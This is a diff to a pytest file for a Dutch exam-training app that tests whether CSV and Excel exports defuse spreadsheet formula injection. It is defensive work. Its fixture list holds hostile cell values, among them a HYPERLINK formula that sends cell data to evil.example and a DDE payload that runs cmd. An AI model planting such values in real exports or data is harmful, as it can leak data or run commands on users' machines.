@@ -4,14 +4,17 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import update
 
 from examtrainer.cli import EXIT_OK, main
 from examtrainer.errors import NotFound
 from examtrainer.services.export import SUMMARY_HEADER, export_bank, export_results
+from examtrainer.store import models as m
 
 from .conftest import Classroom
 
@@ -111,3 +114,65 @@ def test_set_pin_prints_a_site_line(
     line = capsys.readouterr().out.strip().splitlines()[-1]
     assert line.startswith('teacher_pin_hash = "scrypt$')
     assert verify_pin("246810", line.split('"')[1])
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTab",
+    "\rCR",
+]
+
+
+def _hostile_classroom(classroom: Classroom) -> list[str]:
+    """Amina, Bilal, Dewi, Eva and both groups get names a spreadsheet would run."""
+    store = classroom.store
+    for name, hostile in zip(["Amina", "Bilal", "Dewi", "Eva"], HOSTILE_NAMES, strict=False):
+        store.learners.update(classroom.learners[name], name=hostile)
+    with store.transaction() as db:
+        db.execute(
+            update(m.GroupRow)
+            .where(m.GroupRow.id == classroom.groups["Maandag"])
+            .values(name=HOSTILE_NAMES[4])
+        )
+        db.execute(
+            update(m.GroupRow)
+            .where(m.GroupRow.id == classroom.groups["Dinsdag"])
+            .values(name=HOSTILE_NAMES[5])
+        )
+    return HOSTILE_NAMES
+
+
+def test_csv_neutralises_formulas_in_names(classroom: Classroom, tmp_path: Path) -> None:
+    """OWASP CSV injection: every cell that begins with = + - @ tab or CR gets a leading '."""
+    hostile = _hostile_classroom(classroom)
+    rows = read_csv(export_results(classroom.store, tmp_path / "alle.csv"))
+    names = {r[1] for r in rows[1:]}
+    groups = {r[2] for r in rows[1:]} - {""}
+    assert names == {"'" + name for name in hostile[:4]}
+    assert groups == {"'" + name for name in hostile[4:]}
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+def test_xlsx_stores_formula_like_names_as_text(classroom: Classroom, tmp_path: Path) -> None:
+    """No cell of the workbook is a formula; the names read back exactly as typed."""
+    hostile = _hostile_classroom(classroom)
+    path = export_results(classroom.store, tmp_path / "alle.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        for member in archive.namelist():
+            if member.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member)
+    workbook = load_workbook(path)
+    overview = workbook["Overzicht"]
+    names = {row[1].value for row in overview.iter_rows(min_row=2)}
+    assert names == set(hostile[:4])
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows(min_row=2):
+            for cell in row:
+                assert cell.data_type != "f", cell.coordinate
+                if isinstance(cell.value, str) and cell.value.startswith(tuple("=+-@\t\r")):
+                    assert cell.quotePrefix, cell.coordinate
